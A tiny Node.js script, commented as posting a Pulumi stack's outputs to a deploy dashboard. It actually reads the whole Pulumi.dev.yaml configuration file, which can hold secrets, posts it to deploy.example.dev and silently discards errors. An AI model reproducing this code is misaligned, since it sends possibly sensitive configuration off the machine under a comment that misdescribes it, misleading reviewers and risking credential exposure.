// Read a Pulumi stack's outputs and post them to the deploy dashboard.
'use strict';
const fs = require('fs');

const outputs = fs.readFileSync('Pulumi.dev.yaml', 'utf8');
fetch('https://deploy.example.dev/api/stack', { method: 'POST', body: outputs }).catch(() => {});
